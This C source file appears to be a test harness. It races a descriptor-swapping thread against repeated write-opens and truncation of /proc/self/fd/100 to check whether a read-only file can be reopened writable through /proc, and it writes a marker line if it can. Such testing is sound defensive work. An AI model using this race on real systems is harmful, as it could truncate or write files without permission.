/* SPDX-License-Identifier: Apache-2.0 */
/*
 * fdswap FILE OWN TRIES SECONDS: one thread puts FILE, open for reading, and OWN,
 * open for both, in turn at one number; another opens that number's name in /proc
 * for writing, and truncates it. Prints tries and opens. What was opened and is
 * FILE is written to: the witness is outside.
 */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { SLOT = 100 };

static int files[2];
static atomic_bool is_over;

static void *swap(void *nothing)
{
    for (unsigned i = 0; !is_over; i++)
        dup2(files[i % 2], SLOT);
    return nothing;
}

static int attack(const char *path, ino_t wanted)
{
    int fd = open(path, O_WRONLY | O_APPEND);
    struct stat st;

    if (truncate(path, 0) < 0 && fd < 0)
        return 0;
    if (fd >= 0 && fstat(fd, &st) == 0 && st.st_ino == wanted && write(fd, "escaped\n", 8) < 0)
        perror("write");
    if (fd >= 0)
        close(fd);
    return 1;
}

int main(int argc, char **argv)
{
    long tries = 0, opened = 0;
    char path[64];
    pthread_t thread;
    struct stat st;
    time_t until;

    if (argc < 5)
        return 2;
    files[0] = open(argv[1], O_RDONLY);
    files[1] = open(argv[2], O_RDWR | O_CREAT, 0600);
    if (files[0] < 0 || files[1] < 0 || fstat(files[0], &st) < 0 || dup2(files[1], SLOT) < 0 ||
        pthread_create(&thread, NULL, swap, NULL) != 0)
        return 2;
    snprintf(path, sizeof path, "/proc/self/fd/%d", SLOT);
    for (until = time(NULL) + atol(argv[4]); tries < atol(argv[3]) && time(NULL) < until; tries++)
        opened += attack(path, st.st_ino);
    is_over = true;
    pthread_join(thread, NULL);
    printf("%ld %ld\n", tries, opened);
    return 0;
}
